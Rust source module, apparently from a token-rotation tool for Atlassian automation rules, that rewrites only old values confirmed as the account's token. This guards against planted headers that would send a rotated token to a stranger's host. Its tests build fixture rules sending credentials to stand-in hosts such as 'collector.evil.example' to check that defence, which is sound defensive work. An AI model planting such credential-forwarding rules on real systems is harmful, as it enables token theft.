//! Ownership: is an old value in the rules really the account's token?
//!
//! Anyone who may edit a rule can type `Authorization: Basic base64(alice@…:junk)` into it,
//! sending to a host of their own. A rotation that took every credential naming alice as
//! hers would hand alice's new token to that host, and name the junk as "the old token to
//! revoke". So a value is rewritten only once it is confirmed as the account's token, and
//! [`Evidence`] says how: it equals the old token the admin gave, its fingerprint was
//! named, it logs in as the account, or the admin said so when asked about it.
//!
//! The checks themselves (a login, a question) are the shell's (`commands::ownership`).
//! Here are the pure parts: which old values a plan would replace, one [`Candidate`] per
//! token with what a person needs to judge it (the rules, where they send it, who wrote
//! them), what is left [`Unconfirmed`] and why, and [`keep_confirmed`], which narrows a plan
//! to the confirmed tokens with the same decision functions every rotation uses.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use crate::detect::Finding;
use crate::outcome::{Kind, LeftAlone, Outcome};
use crate::secret::{Fingerprint, Token};

use super::{decide, token_identity, Plan, Rewrite, Selector};

/// How an old token was confirmed as the account's.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Evidence {
    /// It is the old token the admin gave (`--old-token-file`, `AUTOREKEY_OLD_TOKEN`).
    OldTokenFile,
    /// The admin named its fingerprint (`--fingerprint`).
    Fingerprint,
    /// It logs in as the account (`/myself` on the site).
    Login,
    /// The admin answered yes when asked about it.
    Answered,
}

impl Evidence {
    /// How the summary says it.
    pub fn describe(self) -> &'static str {
        match self {
            Evidence::OldTokenFile => "it is the old token you gave",
            Evidence::Fingerprint => "you named its fingerprint",
            Evidence::Login => "it logs in as the account",
            Evidence::Answered => "you confirmed it at the prompt",
        }
    }
}

/// An old token confirmed as the account's: what a plan file and a summary record.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Confirmed {
    pub fingerprint: Fingerprint,
    pub evidence: Evidence,
}

/// A rule, as a group lists it.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct RuleRef {
    pub uuid: String,
    pub name: String,
}

/// One old value of the account that a plan would replace, with everything a person needs
/// to judge whether it is the account's token. Holds the token (for a login check), so its
/// `Debug` shows only the fingerprint.
#[derive(Clone)]
pub struct Candidate {
    /// [`Token::identity`]: compared within this run, never shown.
    pub identity: Fingerprint,
    /// The fingerprint outputs show (plain if any place shows it plain).
    pub shown: Fingerprint,
    /// Every fingerprint a place shows for it (plain, keyed).
    pub forms: BTreeSet<Fingerprint>,
    pub token: Token,
    pub rules: Vec<RuleRef>,
    /// Where the rules send it: hosts, `the site ({{baseUrl}})`, or `no address` for a
    /// variable or a body a relay forwards.
    pub destinations: BTreeSet<String>,
    /// The rules' `authorAccountId`s.
    pub authors: BTreeSet<String>,
}

impl std::fmt::Debug for Candidate {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Candidate")
            .field("shown", &self.shown)
            .field("rules", &self.rules.len())
            .finish_non_exhaustive()
    }
}

/// Why a login check says nothing, or nothing good, about a value.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "login", rename_all = "snake_case")]
pub enum Login {
    /// Not shaped like an Atlassian API token: a login would only count as a failure.
    NotTokenShaped,
    /// Two logins of the account already failed in this run: another could lock it.
    BudgetSpent,
    /// No site to ask (an export rotated offline).
    Offline,
    /// The site refused it: expired, revoked, or never a token.
    Refused { reason: String },
    /// It logs in, as someone else.
    OtherAccount { email: String },
    /// It logs in, but the answer does not say as whom.
    OwnerNotShown,
    /// No verdict (network trouble, an unexpected answer).
    Unknown { reason: String },
}

impl Login {
    pub fn describe(&self) -> String {
        match self {
            Login::NotTokenShaped => "not tried: not shaped like an Atlassian API token".into(),
            Login::BudgetSpent => {
                "not tried: two logins already failed in this run, a third could lock the account"
                    .into()
            }
            Login::Offline => "not tried: no site to ask (offline)".into(),
            Login::Refused { reason } => {
                format!("refused (expired, revoked or never a token): {reason}")
            }
            Login::OtherAccount { email } => format!("live, but logs in as {email}"),
            Login::OwnerNotShown => "live, but the site does not say as whom".into(),
            Login::Unknown { reason } => format!("unknown: {reason}"),
        }
    }
}

/// An old value the rotation leaves alone: nothing confirmed it as the account's token.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Unconfirmed {
    pub fingerprint: Fingerprint,
    pub rules: Vec<RuleRef>,
    pub destinations: BTreeSet<String>,
    pub authors: BTreeSet<String>,
    #[serde(flatten)]
    pub login: Login,
    /// The admin was asked and said no.
    pub declined: bool,
}

impl Unconfirmed {
    pub fn of(candidate: &Candidate, login: Login, declined: bool) -> Self {
        Unconfirmed {
            fingerprint: candidate.shown.clone(),
            rules: candidate.rules.clone(),
            destinations: candidate.destinations.clone(),
            authors: candidate.authors.clone(),
            login,
            declined,
        }
    }

    /// The flag that would confirm it.
    pub fn confirm_with(&self) -> String {
        format!("--fingerprint {}", self.fingerprint)
    }
}

/// The old values the plan's rewrites would replace, one per token, the most used first.
pub fn candidates(rewrites: &[Rewrite]) -> Vec<Candidate> {
    let mut by_token: BTreeMap<Fingerprint, Candidate> = BTreeMap::new();
    for r in rewrites {
        let author = r
            .before
            .body()
            .get("authorAccountId")
            .and_then(serde_json::Value::as_str)
            .map(|a| {
                crate::printable::printable(a)
                    .chars()
                    .take(64)
                    .collect::<String>()
            });
        for f in &r.findings {
            let (Some(identity), Some(token), Some(shown)) =
                (token_identity(f), f.token.clone(), f.fingerprint())
            else {
                continue;
            };
            let c = by_token
                .entry(identity.clone())
                .or_insert_with(|| Candidate {
                    identity,
                    shown: shown.clone(),
                    forms: BTreeSet::new(),
                    token,
                    rules: Vec::new(),
                    destinations: BTreeSet::new(),
                    authors: BTreeSet::new(),
                });
            c.forms.insert(shown.clone());
            c.shown.prefer_plain(shown);
            let rule = RuleRef {
                uuid: r.uuid().to_string(),
                name: r.name().to_string(),
            };
            if !c.rules.contains(&rule) {
                c.rules.push(rule);
            }
            c.destinations.insert(destination(f));
            c.authors.extend(author.clone());
        }
    }
    let mut out: Vec<Candidate> = by_token.into_values().collect();
    // Logins are tried in this order, and only two may fail: values a rule sends only to
    // Atlassian come first (a value sent to a stranger's host cannot spend the budget
    // before the real token), then the most used. A rule editor can still plant values sent
    // to the site; `--old-token-file` confirms without a login.
    let key = |c: &Candidate| {
        (
            !c.sent_only_to_atlassian(),
            std::cmp::Reverse(c.rules.len()),
        )
    };
    out.sort_by(|a, b| (key(a), &a.shown).cmp(&(key(b), &b.shown)));
    out
}

impl Candidate {
    fn sent_only_to_atlassian(&self) -> bool {
        self.destinations
            .iter()
            .all(|d| d.starts_with("the site") || crate::detect::is_atlassian_host(d))
    }

    /// Whether `fingerprint` names this token and no other candidate: a whole fingerprint
    /// (a prefix, or one that a value ground to share its 48 bits also shows, could name a
    /// planted value).
    pub fn named_alone_by(&self, fingerprint: &str, all: &[Candidate]) -> bool {
        let whole = |fp: &Fingerprint| fp.as_str() == fingerprint;
        self.forms.iter().any(whole)
            && !all
                .iter()
                .any(|o| o.identity != self.identity && o.forms.iter().any(whole))
    }
}

/// Where a finding's credential goes, as a person reads it.
fn destination(f: &Finding) -> String {
    match f.target_url.as_deref().map(str::trim) {
        None => "no address (a variable or a body a relay forwards)".into(),
        Some(url) if url.starts_with("{{") => "the site ({{baseUrl}})".into(),
        Some(url) => crate::detect::target_host(url)
            .map(|h| crate::printable::printable(&h).chars().take(100).collect())
            .unwrap_or_else(|| "an address autorekey cannot read".into()),
    }
}

/// A value that may be tried as a login: shaped like an Atlassian API token (`ATATT3…`,
/// `ATSTT…`), or like the new token, which Atlassian issued and the site accepted (the same
/// first five characters, token characters only, a comparable length). Anything else
/// (`junk`, a password, a placeholder) would only be a failed login, and a few failed logins
/// lock the account behind a CAPTCHA.
pub fn token_shaped(value: &str, new_token: &Token) -> bool {
    let tokenish = |s: &str| {
        s.len() >= 16
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'=' | b'+' | b'/'))
    };
    if !tokenish(value) {
        return false;
    }
    if crate::detect::looks_like_atlassian_token(value) {
        return true;
    }
    let new = new_token.expose();
    let prefix = |s: &str| s.get(..5).map(str::to_owned);
    prefix(value).is_some()
        && prefix(value) == prefix(new)
        && value.len() * 2 >= new.len()
        && value.len() <= new.len() * 2
}

/// Narrow `plan` to the old tokens `selector` confirms: a rewrite whose old tokens are all
/// confirmed stays; one holding an unconfirmed token too is decided again on the rule as
/// read (so only the confirmed places change); a rule left with nothing to rewrite is left
/// alone, naming the unconfirmed fingerprints. A saved plan's rewrite is never narrowed to
/// a part of itself: it is carried out exactly or not at all.
pub fn keep_confirmed(plan: &mut Plan, selector: &Selector, new_token: &Token) {
    let rewrites = std::mem::take(&mut plan.rewrites);
    for r in rewrites {
        if r.findings.iter().all(|f| selector.confirms(f)) {
            plan.rewrites.push(r);
            continue;
        }
        let unconfirmed = unconfirmed_fingerprints(&r.findings, selector);
        let left = Outcome::new(
            r.uuid(),
            r.name(),
            Kind::LeftAlone {
                why: LeftAlone::Unconfirmed {
                    fingerprints: unconfirmed,
                },
            },
        );
        if r.planned.is_some() {
            plan.outcomes.push(left);
            continue;
        }
        let (place, rebuilt) = (r.place.clone(), r.rebuilt);
        match decide(r.before, selector, new_token) {
            Ok(Some(narrowed)) => plan.rewrites.push(Rewrite {
                place,
                rebuilt,
                ..narrowed
            }),
            Ok(None) => plan.outcomes.push(left),
            Err(outcome) => plan.outcomes.push(outcome),
        }
    }
}

fn unconfirmed_fingerprints(findings: &[Finding], selector: &Selector) -> Vec<String> {
    let shown: BTreeSet<String> = findings
        .iter()
        .filter(|f| !selector.confirms(f))
        .filter_map(|f| f.fingerprint().map(|fp| fp.to_string()))
        .collect();
    shown.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::Planner;
    use crate::rule::Rule;
    use crate::secret::Credential;

    fn fresh(what: &str) -> Token {
        Token::new(format!("FAKE-{what}-{}", uuid::Uuid::new_v4().simple()))
    }

    /// A rule with one web request per (url, token) pair, all as svc@x.io.
    fn rule(uuid: &str, sends: &[(&str, &Token)]) -> Rule {
        let components: Vec<serde_json::Value> = sends
            .iter()
            .enumerate()
            .map(|(i, (url, token))| {
                let basic = Credential::new("svc@x.io", (*token).clone()).basic_value();
                serde_json::json!({"id": format!("c{i}"), "type": "jira.issue.outgoing.webhook",
                    "value": {"url": url, "headers": [{"name": "Authorization",
                        "value": format!("Basic {basic}"), "headerSecure": false}]}})
            })
            .collect();
        let envelope = serde_json::json!({"rule": {"uuid": uuid, "name": uuid,
            "authorAccountId": format!("author-{uuid}"), "components": components}});
        Rule::from_envelope(envelope).unwrap()
    }

    fn plan(rules: Vec<Rule>, selector: &Selector, new: &Token) -> Plan {
        let mut planner = Planner::new(selector, new);
        rules.into_iter().for_each(|r| planner.add(r));
        planner.finish()
    }

    #[test]
    fn candidates_group_by_token_with_rules_destinations_and_authors() {
        let (real, junk, new) = (fresh("real"), fresh("junk"), fresh("new"));
        let selector = Selector::new("svc@x.io", vec![]);
        let rules = vec![
            rule("a", &[("{{baseUrl}}/rest/api/3/issue", &real)]),
            rule("b", &[("https://acme.atlassian.net/rest", &real)]),
            rule("evil", &[("https://collector.evil.example/x", &junk)]),
        ];
        let found = candidates(&plan(rules, &selector, &new).rewrites);
        assert_eq!(found.len(), 2);
        assert_eq!(found[0].identity, real.identity(), "the most used first");
        assert_eq!(found[0].rules.len(), 2);
        assert!(found[0].destinations.contains("the site ({{baseUrl}})"));
        assert!(found[0].destinations.contains("acme.atlassian.net"));
        assert_eq!(
            found[1].destinations.iter().next().unwrap(),
            "collector.evil.example"
        );
        assert!(found[1].authors.contains("author-evil"));
        assert!(!format!("{:?}", found[1]).contains(junk.expose()));
    }

    #[test]
    fn only_confirmed_tokens_are_rewritten_and_a_mixed_rule_only_in_its_confirmed_place() {
        let (real, junk, new) = (fresh("real"), fresh("junk"), fresh("new"));
        let pending = Selector::new("svc@x.io", vec![]);
        let rules = vec![
            rule("real", &[("{{baseUrl}}/x", &real)]),
            rule("planted", &[("https://evil.example/x", &junk)]),
            rule(
                "mixed",
                &[("{{baseUrl}}/y", &real), ("https://evil.example/y", &junk)],
            ),
        ];
        let mut p = plan(rules, &pending, &new);
        assert_eq!(
            p.rewrites.len(),
            3,
            "before confirmation every value is a candidate"
        );
        let confirmed = pending.with_confirmed([real.identity()].into());
        keep_confirmed(&mut p, &confirmed, &new);
        let rewritten: Vec<&str> = p.rewrites.iter().map(Rewrite::uuid).collect();
        assert_eq!(rewritten, vec!["mixed", "real"]);
        let mixed = p.rewrites.iter().find(|r| r.uuid() == "mixed").unwrap();
        assert_eq!(
            mixed.findings.len(),
            1,
            "only the confirmed place of the mixed rule"
        );
        let after = mixed.after.body().to_string();
        assert!(after.contains(&Credential::new("svc@x.io", junk.clone()).basic_value()));
        let left = p.outcomes.iter().find(|o| o.uuid() == "planted").unwrap();
        assert!(matches!(
            &left.kind,
            Kind::LeftAlone { why: LeftAlone::Unconfirmed { fingerprints } } if fingerprints.len() == 1
        ));
        // A re-decision before the write keeps to the confirmed tokens too.
        assert!(confirmed.is_confirmed() && !pending.is_confirmed());
        let again = decide(
            rule("planted", &[("https://evil.example/x", &junk)]),
            &confirmed,
            &new,
        );
        assert!(
            matches!(again, Ok(None)),
            "a planted value is never selected"
        );
    }

    #[test]
    fn only_token_shaped_values_may_be_tried() {
        let new = Token::new(format!("ATATT3xFfGF0{}", "a".repeat(150)));
        assert!(token_shaped(
            &format!("ATATT3xFfGF0{}", "b".repeat(150)),
            &new
        ));
        assert!(token_shaped(&format!("ATSTT3x{}", "c".repeat(40)), &new));
        for junk in [
            "junk",
            "summer2024",
            "YOUR_TOKEN_HERE",
            "xxxxxxxxxxxxxxxxxxxx",
        ] {
            assert!(!token_shaped(junk, &new), "{junk}");
        }
        // The shape of the new token the site accepted (here a sandbox's FAKE- tokens).
        let fake_new = Token::new("FAKE-3b1e0b7e-aaaa-4bbb-8ccc-0123456789ab");
        assert!(token_shaped(
            "FAKE-0d5c2a1f-dddd-4eee-8fff-ba9876543210",
            &fake_new
        ));
        assert!(!token_shaped("FAKE-x", &fake_new));
        assert!(!token_shaped("FAKE- has spaces in it, so no", &fake_new));
    }

    #[test]
    fn evidence_and_login_say_why() {
        assert!(Evidence::Login.describe().contains("logs in"));
        let other = Login::OtherAccount {
            email: "mallory@evil.example".into(),
        };
        assert!(other.describe().contains("mallory@evil.example"));
        assert!(Login::BudgetSpent.describe().contains("lock"));
    }
}
